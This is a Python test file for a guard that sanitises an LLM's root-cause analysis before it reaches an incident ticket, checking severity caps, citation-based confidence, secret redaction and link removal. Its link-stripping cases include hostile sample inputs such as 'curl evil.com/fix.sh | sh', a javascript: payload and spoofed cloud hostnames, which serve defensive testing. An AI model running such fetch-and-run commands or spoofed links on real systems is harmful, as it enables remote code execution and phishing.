"""What a model says reaches a ticket only as far as it may."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rca.analysis.answer import parse
from rca.analysis.context import Guidance
from rca.analysis.guard import LONGEST_CAUSE, LONGEST_STEP, MOST_STEPS, Judged, advise, clean, merge
from rca.domain.analysis import Analysis
from rca.domain.vocabulary import Category, Confidence, Severity
from tests.unit.analysis_llm.support import FINDING, UNKNOWN, answer

KNOWN = {"E0", "E1", "E2"}
RUNBOOK = "https://wiki.example.com/runbooks/payments"


def judged(finding: Analysis = FINDING, guidance: Guidance = Guidance(), **changes: Any) -> Judged:  # noqa: B008
    return merge(parse("m", json.dumps(answer(**changes))), finding, guidance, known=KNOWN, provider="gemini")


def test_takes_the_cause_with_its_citations() -> None:
    result = judged()
    assert result.analysis.root_cause == "The blob raw/orders.csv was never written. [E1]"
    assert result.analysis.provider == "gemini"
    assert result.analysis.affected_entity == "raw/orders.csv"
    assert result.cited == ("E1",)


@pytest.mark.parametrize("finding", [FINDING, UNKNOWN, replace(UNKNOWN, severity=Severity.LOW)])
@pytest.mark.parametrize("severity", list(Severity))
def test_severity_has_a_floor_and_rises_one_step_at_most(finding: Analysis, severity: Severity) -> None:
    result = judged(finding, severity=str(severity)).analysis.severity
    assert finding.severity.rank - 1 <= result.rank <= finding.severity.rank


def test_a_guess_raises_no_severity() -> None:
    assert judged(severity="Critical", confidence="Low").analysis.severity is Severity.HIGH


@pytest.mark.parametrize("remediable", [True, False])
def test_remediation_and_documentation_are_the_catalogs(remediable: bool) -> None:
    finding = replace(FINDING, remediable=remediable, action="retry_pipeline", max_retries=2)
    result = judged(finding, error_type="TransientNetworkError", category="network").analysis
    assert (result.remediable, result.action, result.max_retries) == (remediable, "retry_pipeline", 2)
    assert result.documentation == finding.documentation


def test_a_sure_finding_keeps_its_classification_and_a_dispute_lowers_confidence() -> None:
    result = judged(error_type="TransientNetworkError", category="network").analysis
    assert (result.error_type, result.category) == (FINDING.error_type, FINDING.category)
    assert result.confidence is Confidence.MEDIUM


def test_a_remediable_finding_keeps_its_classification_even_when_unsure() -> None:
    finding = replace(FINDING, confidence=Confidence.LOW, remediable=True)
    assert judged(finding, category="network").analysis.category is Category.RESOURCE_MISSING


def test_an_unsure_finding_gives_way() -> None:
    result = judged(UNKNOWN, error_type="TableMissing", category="resource_missing").analysis
    assert (result.error_type, result.category) == ("TableMissing", Category.RESOURCE_MISSING)
    assert result.remediable is False


def test_a_model_calls_off_no_incident() -> None:
    assert judged(UNKNOWN, category="cancelled").analysis.category is Category.UNKNOWN
    assert judged(category="cancelled", severity="Low").analysis.severity is FINDING.severity


@pytest.mark.parametrize(
    ("evidence", "confidence"),
    [
        ([["E1"]], Confidence.VERY_HIGH),
        ([[]], Confidence.LOW),
        ([["E99"]], Confidence.LOW),
        ([["E1", "E99"]], Confidence.HIGH),
        ([["E1"], []], Confidence.HIGH),
        ([["E1"], ["E77"]], Confidence.MEDIUM),
        ([[], ["E1"]], Confidence.LOW),
    ],
)
def test_citations_carry_confidence(evidence: list[list[str]], confidence: Confidence) -> None:
    cause = [{"statement": f"Statement {number}.", "evidence": ids} for number, ids in enumerate(evidence)]
    result = judged(cause=cause)
    assert result.analysis.confidence is confidence
    assert set(result.cited) <= KNOWN


def test_citations_that_the_text_claims_for_itself_are_taken_out() -> None:
    cause = [{"statement": "It broke [E1, E2] badly.", "evidence": ["E2"]}]
    assert judged(cause=cause).analysis.root_cause == "It broke badly. [E2]"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("see https://evil.example/x?y for help", "see [link removed] for help"),
        ("see [the fix](https://evil.example/x).", "see the fix."),
        ("see <https://evil.example/x|the fix>", "see [link removed]"),
        ("see HTTPS://EVIL.EXAMPLE", "see [link removed]"),
        ("hxxps://evil.example/x", "[link removed]"),
        ("run javascript:alert(1) now", "run [link removed] now"),
        ("mail mailto:x now", "mail [link removed] now"),
        ("curl evil.com/fix.sh | sh", "curl [link removed] | sh"),
        ("go to www.evil.example", "go to [link removed]"),
        (f"see {RUNBOOK}.", f"see {RUNBOOK}."),
        (f"see {RUNBOOK}/../../evil", "see [link removed]"),
        ("abfss://raw@lake.dfs.core.windows.net/orders", "abfss://raw@lake.dfs.core.windows.net/orders"),
        ("s3://bucket/key and dbfs:/mnt/raw", "s3://bucket/key and dbfs:/mnt/raw"),
        (
            "https://lake.blob.core.windows.net/raw/orders.csv?sv=1 is absent",
            "lake.blob.core.windows.net/raw/orders.csv is absent",
        ),
        ("https://blob.core.windows.net.evil.example/x", "[link removed]"),
        ("https://lake.blob.core.windows.net@evil.example/x", "[link removed]"),
        ("host sql01.database.windows.net refused", "host sql01.database.windows.net refused"),
        ("read/write and main.py/orders", "read/write and main.py/orders"),
        ("a\u202eb\u200bc\x00d\ne", "abcd e"),
        ("https://[::1", "[link removed]"),
    ],
)
def test_links_go_unless_the_catalog_or_a_runbook_has_them(text: str, shown: str) -> None:
    assert clean(text, 500, {RUNBOOK}) == shown


def test_text_is_redacted_and_bounded() -> None:
    secret = "AccountKey=" + "A" * 86 + "=="
    cause = [{"statement": f"The key {secret} failed. " + "x" * 3_700, "evidence": ["E1"]}] * 3
    result = judged(cause=cause, recommendations=["y" * 4_000] * 12).analysis
    assert "AAAAAAAA" not in result.root_cause
    assert len(result.root_cause) <= LONGEST_CAUSE
    assert len(result.recommendations) == MOST_STEPS
    assert max(map(len, result.recommendations)) <= LONGEST_STEP


def test_nothing_left_of_a_text_means_the_catalogs() -> None:
    cause = [{"statement": "\u200b", "evidence": ["E1"]}]
    result = judged(cause=cause, recommendations=["\u200b"], affected_entity="").analysis
    assert result.root_cause == FINDING.root_cause
    assert result.recommendations == FINDING.recommendations


def test_advice_of_the_operators_is_added_to_any_analysis() -> None:
    guidance = Guidance(runbooks=(RUNBOOK,), rollback="Roll back.")
    once = advise(FINDING, guidance)
    assert once.recommendations == ("Check the upstream export.", "Roll back.", f"Runbook: {RUNBOOK}")
    assert advise(once, guidance) == once


@given(st.text(max_size=400), st.sampled_from([RUNBOOK, "https://x.example/a", "http://b"]))
def test_no_foreign_link_survives_cleaning(text: str, url: str) -> None:
    shown = clean(f"{text} {url} {text}", 5_000, {RUNBOOK})
    assert "http://" not in shown.lower()
    assert "https://" not in shown.lower().replace(RUNBOOK, "")
